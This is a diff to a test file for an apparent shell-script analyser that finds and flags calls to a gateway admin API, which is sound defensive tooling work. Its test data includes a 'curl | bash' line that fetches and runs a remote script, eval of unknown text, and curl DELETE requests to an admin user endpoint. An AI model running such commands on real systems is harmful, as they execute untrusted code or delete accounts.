@@ -217,11 +217,43 @@ describe('threat: author: a hostile script', () => {
     ['if true; then :; else CALL; fi', CERTAIN],
     ['M=a; case $M in b) CALL;; a) ;; esac', CERTAIN],
     ['exit 0\ng() { CALL; }\ng', ENDS],
+    ['exec java -jar app.jar\nCALL', ENDS],
+    ['exec >log; exec ./serve\nCALL', ENDS],
   ])('hides no call that is never made: %s', (script, why) => {
     const text = script.replace('CALL', 'curl -X DELETE http://gw:8888/admin/username/a');
     const { calls } = readCalls([{ path: 'calls.sh', text }], { read: () => undefined });
     expect(calls).toMatchObject([
       { file: 'calls.sh', line: text.split('\n').findIndex((line) => line.includes('curl')) + 1, why },
+    ]);
+  });
+
+  const TEXT = 'a text that is not known';
+  it.each([
+    ['./other.sh', './other.sh, which is not among the files'],
+    ['bash lib/other.sh', 'lib/other.sh, which is not among the files'],
+    ['eval "$CLEANUP"', TEXT],
+    ['eval "$(echo 7p | rev)"', TEXT],
+    ['sh -c "$CLEANUP"', TEXT],
+    ['curl -s https://example.com/x.sh | bash', TEXT],
+  ])('hides no call in what a script runs and gwconf cannot read: %s', (command, what) => {
+    const text = `curl -X DELETE http://gw:8888/admin/username/a\n${command}`;
+    const { calls } = readCalls([{ path: 'a.sh', text }], { read: () => undefined });
+    expect(calls).toMatchObject([
+      { line: 1, method: 'DELETE' },
+      { line: 2, why: `it runs ${what}: what that calls or sets is not known` },
+    ]);
+  });
+
+  it('has no word of programs of Kafka or the machine, nor of a text that it can read in part', () => {
+    const text = [
+      'curl -X DELETE http://gw:8888/admin/username/a',
+      'kafka-topics.sh --list; ./bin/kafka-acls.sh --list; /opt/wait.sh gw',
+      'eval "curl -X DELETE http://gw:8888/admin/username/$NAME"',
+    ].join('\n');
+    const { calls } = readCalls([{ path: 'a.sh', text }], { read: () => undefined });
+    expect(calls.map((one) => ['why' in one, one.line])).toEqual([
+      [false, 1],
+      [false, 3],
     ]);
   });
 
